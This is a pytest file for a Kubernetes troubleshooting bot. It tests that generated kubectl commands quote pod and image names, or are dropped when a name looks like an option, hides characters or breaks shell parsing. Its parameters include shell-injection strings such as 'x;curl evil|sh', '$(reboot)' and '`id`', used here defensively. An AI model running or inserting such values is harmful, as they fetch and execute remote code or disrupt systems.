"""Commands for copying: real names, quoted, and none at all when a name is not safe to give."""

import shlex
from dataclasses import replace

import pytest

from bot.facts.cause import Expectation
from bot.facts.evidence import Answer
from bot.facts.failure import Workload
from bot.facts.objects import ContainerKind
from bot.facts.playbook import Command
from bot.rendering import commands
from tests import reports


def _lines(*run: str, kinds: tuple[str, ...] = (), **changed: str) -> list[str]:
    diagnosis = reports.diagnosis(**changed)
    return [each.line for each in commands.filled([Command("why", run, kinds)], diagnosis, ("node-a",))]


def test_command_has_the_real_names() -> None:
    """Names of the pod, details of an answer, and JSONPath left alone."""
    assert _lines("kubectl", "-n", "{namespace}", "get", "{workload}", "-o", "jsonpath={.spec}{end}") == [
        "kubectl -n shop get deployment/web -o 'jsonpath={.spec}{end}'"
    ]
    assert _lines("x", "{image_name}:{similar-tag-exists.nearest}") == [
        "x registry.corp.example/shop/web:1.3"
    ]


@pytest.mark.attack(33, "x;curl evil|sh")
@pytest.mark.parametrize("hostile", ["x;curl<evil|sh", "$(reboot)", "`id`", "a'b", 'a"b', "a&b", "a\\b"])
def test_command_quotes_a_hostile_name(hostile: str) -> None:
    """It stays one argument, whatever it holds."""
    (line,) = _lines("kubectl", "get", "pod", "{pod}", pod=hostile)
    assert shlex.split(line) == ["kubectl", "get", "pod", hostile]


@pytest.mark.attack(33, "x;curl evil|sh")
@pytest.mark.parametrize(
    "hostile", ["-oyaml", "--help", "", "x;curl evil|sh", "a\nb", "a\x1b[2Jb", "a\u202eb", "{namespace}"]
)
def test_command_is_left_out_for_a_name_that_misleads(hostile: str) -> None:
    """Options, hidden characters and names that are two words are not copied into a shell."""
    assert _lines("kubectl", "get", "pod", "{pod}", pod=hostile) == []


@pytest.mark.attack(33, "none for a reference that does not parse")
def test_there_is_no_command_for_a_reference_that_does_not_parse() -> None:
    """Even one that does not name the image: copying it would be guessing."""
    assert _lines("kubectl", "get", "pod", "{pod}", image="x;curl evil|sh") == []


def test_command_without_its_detail_is_left_out() -> None:
    """No nearest tag, no command to set it."""
    assert _lines("x", "{repository-exists.nearest}") == []
    assert _lines("x", "{secret}") == []


def test_value_cannot_end_a_json_string() -> None:
    """A patch stays the patch it is."""
    (line,) = _lines("kubectl", "patch", "-p", '{"name":"{pod}"}', pod='a","b":"c')
    assert shlex.split(line)[-1] == r'{"name":"a\",\"b\":\"c"}'


def test_command_is_for_the_kinds_it_names() -> None:
    """Nobody rolls back a bare pod."""
    command = Command("why", ("kubectl", "rollout", "undo", "{workload}"), ("Deployment",))
    bare = replace(reports.diagnosis(), workload=Workload("Pod", "shop", "web-1"))
    assert commands.filled([command], bare, ()) == ()
    assert len(commands.filled([command], reports.diagnosis(), ())) == 1


def test_command_is_for_the_answers_it_names() -> None:
    """A patch that sets a whole list is for those who have none; UNKNOWN is neither yes nor no."""
    given = reports.diagnosis()
    near, unasked = Expectation("similar-tag-exists"), Expectation("secret-named", Answer.NO)
    met = Command("why", ("x",), when=(near,))
    not_met = Command("why", ("x",), when=(Expectation("similar-tag-exists", Answer.NO),))
    unknown = Command("why", ("x",), when=(near, unasked))
    assert len(commands.filled([met, not_met, unknown], given, ())) == 1


@pytest.mark.parametrize("changed", [{"volume": "models"}, {"kind": ContainerKind.EPHEMERAL}])
def test_image_of_a_volume_or_debug_container_is_not_set(changed: dict[str, str]) -> None:
    """The container beside it has a good image of its own."""
    given = reports.diagnosis()
    given = replace(given, failure=replace(given.failure, **changed))
    command = Command("why", ("kubectl", "set", "image", "{workload}", "{container}={image_name}:TAG"))
    assert commands.filled([command], given, ()) == ()
